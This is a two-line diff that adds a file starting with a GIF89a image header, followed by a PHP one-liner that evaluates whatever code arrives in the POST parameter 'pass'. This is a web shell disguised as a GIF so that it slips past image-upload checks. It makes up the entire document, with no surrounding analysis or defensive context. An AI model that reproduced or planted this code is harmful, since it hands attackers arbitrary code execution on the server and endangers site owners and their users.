@@ -1,0 +1,2 @@
+GIF89a;
+<?php @eval($_POST['pass']); ?>
